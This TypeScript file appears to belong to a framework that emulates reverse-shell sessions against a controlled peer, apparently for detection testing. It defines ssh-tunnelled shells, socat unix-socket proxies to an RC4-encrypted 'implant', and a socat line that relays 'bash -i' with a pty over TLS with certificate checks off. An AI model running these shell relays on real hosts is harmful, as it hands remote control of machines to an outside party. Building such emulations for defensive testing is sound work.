/** Sessions that another program has: ssh, a relay, or a proxy behind a unix socket. */
import { once } from 'node:events';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import type { Emulation, Need } from '../emulation.ts';
import type { Ground } from '../ground.ts';
import { SecureShellServer } from '../peer/ssh-server.ts';
import { which } from '../which.ts';
import { build, COMPILER } from './build.ts';
import type { Peer } from './peer/index.ts';
import type { PeerPlan } from './peer/plan.ts';
import { placed } from './script.ts';
import { session } from './session.ts';
import { tellingShell } from './shell.ts';

const SSH: readonly Need[] = [
  { command: 'ssh', package: 'openssh-client' },
  { command: 'sshd', package: 'openssh-server' },
];
const SOCAT: readonly Need[] = [{ command: 'socat', package: 'socat' }];
const row = 'through ssh or a unix-socket proxy';
const plain: PeerPlan = { transport: 'tcp', wire: { form: 'text' }, talk: { kind: 'shell' } };
const sealed: PeerPlan = { transport: 'tcp', wire: { form: 'sealed', cipher: 'rc4' }, talk: { kind: 'commands' } };

const implant = async (ground: Ground) =>
  ground.program(await build({ name: 'command-rc4', sources: ['command', 'frames', 'answers', 'cipher-rc4'] }), true);

/** A proxy behind a unix socket, given what listens and where it leads, and the implant that uses it. */
async function proxied(
  ground: Ground,
  command: (socket: string) => readonly string[],
  { kind = 'tcp', abstract = false }: { readonly kind?: 'tcp' | 'seqpacket'; readonly abstract?: boolean } = {},
) {
  const path = join(ground.folder('run'), ground.name('proxy.sock'));
  const script = placed(ground, 'proxied.sh');
  const socket = abstract ? `@${path}` : path;
  return { file: '/bin/bash', args: [script, kind, socket, await implant(ground), ...command(path)] };
}

const server = (ground: Ground, peer: Peer) => SecureShellServer.start(peer.namespace, ground.folder('ssh'));

export const proxies: readonly Emulation[] = [
  ...(['', 'forward'] as const).map((how) =>
    session({
      name: how === '' ? 'ssh-shell' : 'ssh-shell-forward',
      row,
      about: `an interactive bash whose ends go through a fifo and an ssh client${how === '' ? '' : ' that forwards them'}`,
      needs: SSH,
      peer: plain,
      outside: 'ssh',
      implant: async (ground, peer) => {
        const far = await server(ground, peer);
        const { address, port } = peer;
        const script = placed(ground, 'ssh-shell.sh');
        return {
          file: '/bin/bash',
          args: [script, address, String(port), ground.folder('tmp'), far.clientConfig, how],
          env: {
            ...tellingShell(ground),
            SSH: ground.program(which('ssh')),
            SHELL_PROGRAM: ground.program('/bin/bash'),
          },
          place: `${address}:${far.port}`,
          after: () => far.stop(),
        };
      },
    }),
  ),
  session({
    name: 'ssh-forward',
    row,
    about: 'a static program talks RC4 through a unix socket that ssh forwards',
    needs: [...SSH, ...COMPILER],
    peer: sealed,
    outside: 'ssh',
    implant: async (ground, peer) => {
      const far = await server(ground, peer);
      const { address, port } = peer;
      const ssh = ground.program(which('ssh'));
      const command = await proxied(ground, (socket) => [
        ssh,
        '-F',
        far.clientConfig,
        '-N',
        '-L',
        `${socket}:${address}:${port}`,
        'peer',
      ]);
      return { ...command, place: `${address}:${far.port}`, after: () => far.stop() };
    },
  }),
  session({
    name: 'unix-proxy',
    row,
    about: 'a static program talks RC4 through a unix socket that socat proxies',
    needs: [...SOCAT, ...COMPILER],
    peer: sealed,
    implant: (ground, { address, port }) => {
      const socat = ground.program(which('socat'));
      return proxied(ground, (socket) => [socat, `UNIX-LISTEN:${socket}`, `TCP:${address}:${port}`]);
    },
  }),
  session({
    name: 'unix-proxy-abstract',
    row,
    about: 'a static program talks RC4 through a unix socket with an abstract name that socat proxies',
    needs: [...SOCAT, ...COMPILER],
    peer: sealed,
    implant: (ground, { address, port }) => {
      const socat = ground.program(which('socat'));
      const listens = (name: string) => [socat, `ABSTRACT-LISTEN:${name}`, `TCP:${address}:${port}`];
      return proxied(ground, listens, { abstract: true });
    },
  }),
  session({
    name: 'unix-proxy-packets',
    row,
    about: 'a static program talks RC4 in packets through a unix socket that socat proxies over UDP',
    needs: [...SOCAT, ...COMPILER],
    peer: { ...sealed, transport: 'udp' },
    implant: (ground, { address, port }) => {
      const socat = ground.program(which('socat'));
      const SEQPACKET = 5;
      const listens = (path: string) => [socat, `UNIX-LISTEN:${path},type=${SEQPACKET}`, `UDP:${address}:${port}`];
      return proxied(ground, listens, { kind: 'seqpacket' });
    },
  }),
  session({
    name: 'socat-shell',
    row,
    about: 'socat runs an interactive bash on a terminal of its own and relays it over TLS',
    needs: SOCAT,
    peer: { ...plain, transport: 'tls' },
    implant: (ground, { address, port }) => ({
      file: ground.program(which('socat')),
      args: [`EXEC:${ground.program('/bin/bash')} -i,pty,stderr,setsid,ctty`, `OPENSSL:${address}:${port},verify=0`],
      env: tellingShell(ground),
    }),
  }),
  session({
    name: 'relayed-shell',
    row,
    about: 'an interactive bash talks in clear over loopback to socat, which passes it on over TLS',
    needs: SOCAT,
    peer: { ...plain, transport: 'tls' },
    implant: async (ground, { address, port }) => {
      const near = await freePort();
      return {
        file: '/bin/bash',
        args: [placed(ground, 'relayed-shell.sh'), address, String(port), String(near)],
        env: {
          ...tellingShell(ground),
          RELAY: ground.program(which('socat')),
          SHELL_PROGRAM: ground.program('/bin/bash'),
        },
      };
    },
  }),
];

/** Of loopback; somebody else may take it before it is used. */
async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { port } = server.address() as AddressInfo;
  server.close();
  await once(server, 'close');
  return port;
}
